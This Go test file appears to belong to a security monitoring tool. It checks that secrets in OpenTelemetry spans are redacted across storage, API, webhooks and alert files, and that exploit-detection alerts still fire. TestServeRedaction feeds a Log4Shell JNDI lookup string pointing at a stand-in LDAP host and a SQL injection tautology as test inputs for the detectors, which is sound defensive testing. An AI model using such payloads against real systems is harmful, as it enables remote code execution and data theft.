package cli

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/s2"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/ptrace"
	"go.opentelemetry.io/collector/pdata/ptrace/ptraceotlp"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp"
	"go.opentelemetry.io/otel/sdk/resource"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/trace"

	"github.com/evidentsec/evident/internal/pipeline"
	"github.com/evidentsec/evident/internal/redact"
	"github.com/evidentsec/evident/internal/store"
	"github.com/evidentsec/evident/internal/telemetry"
	"github.com/evidentsec/evident/internal/waf"
)

// TestServeRedaction is the acceptance of redaction (docs/security.md):
// spans carrying a token in url.query, a bearer token and a password in
// db.statement, with exploit payloads so that alerts fire, go through
// serve; the secrets are then looked for in the SQLite files, the API's
// answers, the webhook's bodies and the JSON-lines file. The alerts must
// still name the rule and where it matched.
func TestServeRedaction(t *testing.T) {
	// The last two are in what evident does not decode: an attribute
	// named like a credential and an event, which the log keeps as
	// received (redacted).
	// The profiles carry theirs in a span name and in a label evident
	// does not decode, named like a credential; a clean profile is
	// logged as received.
	// The last trace secret is in an int_value sent length-delimited,
	// which no decoder reads and the redaction leaves out.
	secrets := []string{"SECRET123", "hunter2", "Zm9vOmJhcg", "K3yV4lue", "bob@example.com", "carol@example.com", "S3ssi0nV4l", "L3ngthD3l1m"}
	var mu sync.Mutex
	var hooked [][]byte
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		hooked = append(hooked, b)
		mu.Unlock()
	}))
	defer hook.Close()

	data := t.TempDir()
	jsonl := filepath.Join(t.TempDir(), "alerts.jsonl")
	cfg := serveTestConfig(t)
	cfg.Serve.Alerts.Webhooks = []webhookSink{{Name: "soc", URL: hook.URL}}
	cfg.Serve.Alerts.JSONLines = []jsonLinesSink{{Name: "file", Path: jsonl}}
	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: data}
	log := slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))
	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}}, log)
	if err != nil {
		t.Fatal(err)
	}
	api := srv.apiURL()

	exp, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(srv.otlp.HTTPAddr()), otlptracehttp.WithInsecure())
	if err != nil {
		t.Fatal(err)
	}
	tp := sdktrace.NewTracerProvider(sdktrace.WithSyncer(exp),
		sdktrace.WithResource(resource.NewSchemaless(attribute.String("service.name", "checkout"))))
	ctx, server := tp.Tracer("test").Start(t.Context(), "GET /search", trace.WithSpanKind(trace.SpanKindServer),
		trace.WithAttributes(attribute.String("http.request.method", "GET"), attribute.String("http.route", "/search"),
			attribute.String("url.path", "/search"), attribute.String("url.query", "access_token=SECRET123&q=${jndi:ldap://x.example/a}"),
			attribute.StringSlice("http.request.header.authorization", []string{"Basic Zm9vOmJhcg=="})))
	_, db := tp.Tracer("test").Start(ctx, "SELECT users", trace.WithSpanKind(trace.SpanKindClient),
		trace.WithAttributes(attribute.String("db.system", "postgresql"), attribute.String("db.name", "shop"),
			attribute.String("db.statement", "SELECT * FROM users WHERE name='' OR '1'='1' AND password='hunter2'")))
	db.End()
	server.SetAttributes(attribute.String("app.api_key", "K3yV4lue"))
	server.AddEvent("login", trace.WithAttributes(attribute.String("note", "for bob@example.com")))
	server.End()
	if err := tp.Shutdown(t.Context()); err != nil {
		t.Fatal(err)
	}
	postMalformedValue(t, srv.otlp.HTTPAddr(), "L3ngthD3l1m")
	postLabelledProfile(t, srv.pyro.Addr(), map[string][]string{"span_name": {"GET /users/carol@example.com"}})
	postLabelledProfile(t, srv.pyro.Addr(), map[string][]string{"session_token": {"S3ssi0nV4l"}})
	postLabelledProfile(t, srv.pyro.Addr(), map[string][]string{"span_name": {"GET /search"}})

	type alertJSON struct {
		Kind    string
		Details struct {
			Evidence struct {
				Rule, Field, Match string
				Offset, Length     int
			}
		}
	}
	var alerts []alertJSON
	waitFor(t, "two exploit alerts in the API and the webhook", func() bool {
		var body struct{ Alerts []alertJSON }
		getJSON(t, api+"/api/v1/alerts", &body)
		alerts = alerts[:0]
		for _, a := range body.Alerts {
			if a.Kind == "exploit_payload" {
				alerts = append(alerts, a)
			}
		}
		mu.Lock()
		defer mu.Unlock()
		return len(alerts) == 2 && len(hooked) >= 2
	})
	got := map[string]alertJSON{}
	for _, a := range alerts {
		got[a.Details.Evidence.Rule] = a
	}
	if e := got["jndi-lookup"].Details.Evidence; e.Field != "url.query" || e.Match != "${jndi:" || e.Offset != 25 || e.Length != 7 {
		t.Errorf("jndi-lookup evidence = %+v", e)
	}
	if e := got["sqli-db-tautology"].Details.Evidence; e.Field != "db.query.text" || e.Length == 0 {
		t.Errorf("sqli-db-tautology evidence = %+v", e)
	}

	var seen [][]byte
	look := func(what string, b []byte) {
		seen = append(seen, b)
		for _, s := range secrets {
			// Evidence values are decoded and lower-cased.
			if bytes.Contains(bytes.ToLower(b), bytes.ToLower([]byte(s))) {
				t.Errorf("%s holds %s", what, s)
			}
		}
	}
	for _, path := range []string{
		"/api/v1/alerts", "/api/v1/services", "/api/v1/services/checkout", "/api/v1/graph", "/api/v1/findings",
		"/api/v1/summary", "/api/v1/report", "/api/v1/export/sarif", "/api/v1/export/openvex", "/api/v1/inventory",
		"/api/v1/waf/patches",
	} {
		resp, err := http.Get(api + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		look("GET "+path, b)
	}
	storeFiles := func(when string) {
		files, err := filepath.Glob(filepath.Join(data, "store", "*"))
		if err != nil || len(files) == 0 {
			t.Fatalf("store files: %v %v", files, err)
		}
		for _, f := range files {
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			look(f+" "+when, b)
		}
	}
	storeFiles("while serving") // the batch log is in the -wal file now
	// The log's requests are compressed: a secret could hide behind a
	// back-reference in the files, not in the batches.
	kinds := map[store.BatchKind]int{}
	if err := srv.st.Batches(t.Context(), 0, func(seq int64, kind store.BatchKind, payload []byte) error {
		if kind == store.BatchReceivedAt {
			// The batch, then its receipt time, its kind and the kind's
			// length (store.BatchReceivedAt).
			n := int(payload[len(payload)-1])
			kind = store.BatchKind(payload[len(payload)-1-n : len(payload)-1])
			payload = payload[:len(payload)-1-n-8]
		}
		kinds[kind]++
		if kind == store.BatchTraceRequestS2 || kind == store.BatchProfileRequestS2 {
			var err error
			if payload, err = s2.Decode(nil, payload); err != nil {
				return err
			}
		}
		look(fmt.Sprintf("logged batch %d (%s)", seq, kind), bytes.Clone(payload))
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if kinds[store.BatchProfiles] != 2 || kinds[store.BatchProfileRequestS2] != 1 {
		t.Errorf("logged batches by kind: %v, want the two profiles with secrets as batches and the clean one as received", kinds)
	}
	shutdown(t, srv) // delivers, closes the JSON-lines file, checkpoints

	mu.Lock()
	for i, b := range hooked {
		look(fmt.Sprintf("webhook body %d", i), b)
	}
	mu.Unlock()
	b, err := os.ReadFile(jsonl)
	if err != nil {
		t.Fatal(err)
	}
	look("the JSON-lines sink", b)
	if !strings.Contains(string(b), "sqli-db-tautology") {
		t.Errorf("the JSON-lines sink has no sqli alert:\n%s", b)
	}
	storeFiles("after shutdown")
	// The check above is only worth something if the values reached the
	// places it looked: the redacted query did.
	if !bytes.Contains(bytes.ToLower(bytes.Join(seen, nil)), []byte("access_token=redacted")) {
		t.Error("no redacted query found anywhere: the test looked in the wrong places")
	}
}

// postMalformedValue sends OTLP/HTTP a span of checkout whose
// http.response.status_code, an attribute evident reads, holds text where
// OTLP has a number: an int_value sent length-delimited. A request holding one was logged as received, text and
// all, until the decoder told the redaction about it
// (telemetry.TestTextsCoverEveryField).
func postMalformedValue(t *testing.T, addr, text string) {
	t.Helper()
	td := ptrace.NewTraces()
	rs := td.ResourceSpans().AppendEmpty()
	rs.Resource().Attributes().PutStr("service.name", "checkout")
	s := rs.ScopeSpans().AppendEmpty().Spans().AppendEmpty()
	s.SetTraceID(pcommon.TraceID{7, 7, 7})
	s.SetSpanID(pcommon.SpanID{7, 7, 7})
	s.SetName("GET /search")
	s.SetKind(ptrace.SpanKindServer)
	s.SetStartTimestamp(pcommon.NewTimestampFromTime(time.Now().Add(-time.Second)))
	s.SetEndTimestamp(pcommon.NewTimestampFromTime(time.Now()))
	s.Attributes().PutStr("http.route", "/search")
	s.Attributes().PutStr("http.response.status_code", text)
	req, err := ptraceotlp.NewExportRequestFromTraces(td).MarshalProto()
	if err != nil {
		t.Fatal(err)
	}
	// The AnyValue {string_value: text} becomes {int_value: text}: the
	// same bytes under field 3's tag.
	value := append([]byte{0x0a, byte(len(text))}, text...)
	if bytes.Count(req, value) != 1 {
		t.Fatalf("the request does not hold the value once: %x", req)
	}
	req = bytes.Replace(req, value, append([]byte{0x1a, byte(len(text))}, text...), 1)
	resp, err := http.Post("http://"+addr+"/v1/traces", "application/x-protobuf", bytes.NewReader(req))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST /v1/traces: %s", resp.Status)
	}
}

// TestTrafficTapRedacts checks that the requests serve keeps for
// validating virtual patches hold no secret, while the engine behind the
// tap still gets the spans as received.
func TestTrafficTapRedacts(t *testing.T) {
	red, err := redact.New(redact.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	p := &patcher{cfg: waf.DefaultConfig(), redact: red, traffic: waf.NewTraffic(0)}
	var got []telemetry.Span
	next := pipeline.ConsumerFunc[[]telemetry.Span](func(_ context.Context, spans []telemetry.Span) error {
		got = spans
		return nil
	})
	in := []telemetry.Span{{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /search", Attrs: telemetry.Attrs{
		HTTPMethod: "GET", HTTPRoute: "/search", URLPath: "/search", URLQuery: "access_token=SECRET123&q=1",
		RequestHeaders: map[string]string{"cookie": "sid=SECRET123"},
	}}}
	if err := p.tap(next).Consume(t.Context(), in); err != nil {
		t.Fatal(err)
	}
	if got[0].Attrs.URLQuery != "access_token=SECRET123&q=1" {
		t.Errorf("the engine got %q, want the query as received", got[0].Attrs.URLQuery)
	}
	reqs := p.traffic.Requests("shop")
	want := []waf.Request{{Method: "GET", Target: "/search?access_token=REDACTED&q=1", Headers: map[string]string{"cookie": "REDACTED"}}}
	if diff := cmp.Diff(want, reqs); diff != "" {
		t.Errorf("kept requests (-want +got):\n%s", diff)
	}
}

// TestTrafficTapMixedBatch checks that the tap learns from the HTTP
// SERVER spans of a batch however many others surround them, redacted,
// and hands the whole batch on unchanged.
func TestTrafficTapMixedBatch(t *testing.T) {
	red, err := redact.New(redact.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	p := &patcher{cfg: waf.DefaultConfig(), redact: red, traffic: waf.NewTraffic(0)}
	var got []telemetry.Span
	next := pipeline.ConsumerFunc[[]telemetry.Span](func(_ context.Context, spans []telemetry.Span) error {
		got = spans
		return nil
	})
	in := tapSpans(30)
	in[7] = telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /search", Attrs: telemetry.Attrs{
		HTTPMethod: "GET", HTTPRoute: "/search", URLPath: "/search", URLQuery: "access_token=SECRET123&q=1",
	}}
	in[8].Attrs.URLFull = "https://api.example.com/a?access_token=SECRET123"
	want := slices.Clone(in)
	if err := p.tap(next).Consume(t.Context(), in); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("the engine got (-want +got):\n%s", diff)
	}
	reqs := p.traffic.Requests("shop")
	wantReqs := []waf.Request{{Method: "GET", Target: "/search?access_token=REDACTED&q=1", Headers: map[string]string{}}}
	if diff := cmp.Diff(wantReqs, reqs); diff != "" {
		t.Errorf("kept requests (-want +got):\n%s", diff)
	}
	if reqs := p.traffic.Requests("load"); len(reqs) != 0 {
		t.Errorf("kept requests of spans without an HTTP method: %v", reqs)
	}
}

// tapSpans returns n spans as telemetrygen sends them: traces of a CLIENT
// span and nine SERVER children, no HTTP attributes.
func tapSpans(n int) []telemetry.Span {
	spans := make([]telemetry.Span, n)
	for i := range spans {
		sp := &spans[i]
		sp.Service = "load"
		sp.SpanID = [8]byte{byte(i >> 8), byte(i), 1}
		if i%10 == 9 {
			sp.Kind, sp.Name, sp.Attrs.PeerService = telemetry.SpanKindClient, "lets-go", "telemetrygen-server"
			continue
		}
		sp.Kind, sp.Name, sp.Attrs.PeerService = telemetry.SpanKindServer, fmt.Sprintf("okey-dokey-%d", i%10), "telemetrygen-client"
		sp.ParentSpanID = [8]byte{byte((i + 9 - i%10) >> 8), byte(i + 9 - i%10), 1}
	}
	return spans
}

// BenchmarkTrafficTap measures what the traffic tap of serve costs per
// 1000-span batch of telemetrygen's spans, which the traffic does not
// keep.
func BenchmarkTrafficTap(b *testing.B) {
	red, err := redact.New(redact.DefaultConfig())
	if err != nil {
		b.Fatal(err)
	}
	p := &patcher{cfg: waf.DefaultConfig(), redact: red, traffic: waf.NewTraffic(0)}
	tap := p.tap(pipeline.ConsumerFunc[[]telemetry.Span](func(context.Context, []telemetry.Span) error { return nil }))
	spans := tapSpans(1000)
	b.ReportAllocs()
	for b.Loop() {
		if err := tap.Consume(b.Context(), spans); err != nil {
			b.Fatal(err)
		}
	}
}
